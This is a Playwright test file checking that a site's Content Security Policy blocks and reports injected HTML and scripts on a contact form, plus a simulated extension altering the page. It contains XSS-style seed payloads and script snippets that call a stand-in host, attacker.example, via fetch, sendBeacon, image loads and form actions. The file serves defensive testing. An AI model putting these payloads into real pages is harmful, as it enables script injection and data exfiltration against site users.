import { type Browser, expect } from '@playwright/test'
import { test } from '../../support/browser'
import { collectViolations } from '../../support/violations'
import { expectSent, openSavedDraft, submit } from './journey'

/** What an attacker, or a package gone bad, would do; each must be blocked and reported. */

/** A page in a context that expects violations, and the requests to another host that were not blocked. */
async function openAttacked(browser: Browser, siteUrl: string) {
  const context = await browser.newContext({ baseURL: siteUrl })
  const violations = await collectViolations(context)
  const page = await context.newPage()
  const left: string[] = []
  // The policy comes before the network: what it blocks never arrives here.
  await page.route(`${foreign}/**`, (route) => {
    left.push(route.request().url())
    return route.abort()
  })
  return { page, violations, left }
}

const expectViolation = (violations: readonly string[], text: string, name = text) =>
  expect.soft.poll(() => violations.join('\n'), name).toContain(text)

const foreign = 'https://attacker.example'

/** HTML that got into a page, and what reports it; each report is of this seed alone. */
const seeds = {
  '<script>document.title = "seeded"</script>': 'script-src-elem blocked inline',
  [`<script src="${foreign}/a.js"></script>`]: `script-src-elem blocked ${foreign}/a.js`,
  '<img src="/x" onerror="document.title = \'seeded\'">': 'script-src-attr blocked',
  '<style>body { display: none }</style>': 'style-src-elem blocked inline',
  '<p style="position: fixed; inset: 0">x</p>': 'style-src-attr blocked',
  [`<img src="${foreign}/a.png">`]: `img-src blocked ${foreign}/a.png`,
  [`<iframe src="${foreign}"></iframe>`]: 'frame-src blocked',
  [`<object data="${foreign}"></object>`]: 'object-src blocked',
  [`<base href="${foreign}">`]: 'base-uri blocked',
}

/** Scripts that got into a page, and what reports each; only the last may leave the page. */
const scripts: Readonly<Record<string, (address: string) => void>> = {
  [`connect-src blocked ${foreign}/request`]: (address) =>
    void fetch(`${address}/request`).catch(() => {}),
  [`connect-src blocked ${foreign}/beacon`]: (address) =>
    void navigator.sendBeacon(`${address}/beacon`, 'x'),
  [`img-src blocked ${foreign}/b.png`]: (address) =>
    void Object.assign(new Image(), { src: `${address}/b.png` }),
  'require-trusted-types-for blocked trusted-types-sink': (address) => {
    document.body.innerHTML = `<img src="${address}">`
  },
  'trusted-types blocked trusted-types-policy': () => {
    const { trustedTypes } = window as unknown as {
      trustedTypes: { createPolicy: (name: string, rules: object) => void }
    }
    trustedTypes.createPolicy('default', { createHTML: (html: string) => html })
  },
  'form-action blocked': (action) => {
    const form = Object.assign(document.createElement('form'), { action })
    document.body.append(form)
    form.submit()
  },
}

test('each attack on the form, in its HTML or by a script, is blocked and reported', async ({
  browser,
  siteUrl,
}) => {
  const html = Object.keys(seeds).join('')
  const { page, violations, left } = await openAttacked(browser, siteUrl)
  await page.route('**/contact/', async (route) => {
    const response = await route.fetch()
    const built = await response.text()
    await route.fulfill({ response, body: built.replace('</body>', `${html}</body>`) })
  })
  await page.goto('/contact/')
  for (const [seed, reported] of Object.entries(seeds)) {
    await expectViolation(violations, `/contact/: ${reported}`, seed)
  }
  expect.soft(await page.title()).not.toBe('seeded')
  await expect.soft(page.locator('body')).toBeVisible()
  for (const [reported, script] of Object.entries(scripts)) {
    // Trusted Types also throws.
    await page.evaluate(script, foreign).catch(() => undefined)
    await expectViolation(violations, `/contact/: ${reported}`)
  }
  expect(left).toEqual([])
  await page.context().close()
})

test('a form that an extension has changed can still be sent', async ({
  browser,
  siteUrl,
  sandbox,
}) => {
  const { page, violations } = await openAttacked(browser, siteUrl)
  await page.addInitScript(changeAsExtensionsDo, foreign)
  await openSavedDraft(page, sandbox)
  await submit(page)
  await expectSent(page, sandbox)
  for (const directive of ['style-src-elem', 'style-src-attr', 'img-src']) {
    await expectViolation(violations, `${directive} blocked`)
  }
  await page.context().close()
})

/** Runs in the page: changes it before it is hydrated, with panels, badges in fields, marked words. */
function changeAsExtensionsDo(address: string): void {
  document.addEventListener('DOMContentLoaded', () => {
    const style = Object.assign(document.createElement('style'), {
      textContent: 'input { all: unset }',
    })
    const panel = document.createElement('div')
    panel.setAttribute('style', 'position: fixed; inset: 0; background: red')
    panel.append(Object.assign(new Image(), { src: `${address}/badge.png` }))
    document.head.append(style)
    document.body.append(panel)
    for (const field of document.querySelectorAll('input, textarea')) {
      field.setAttribute('data-extension', 'on')
      field.setAttribute('style', 'background: red')
    }
  })
}
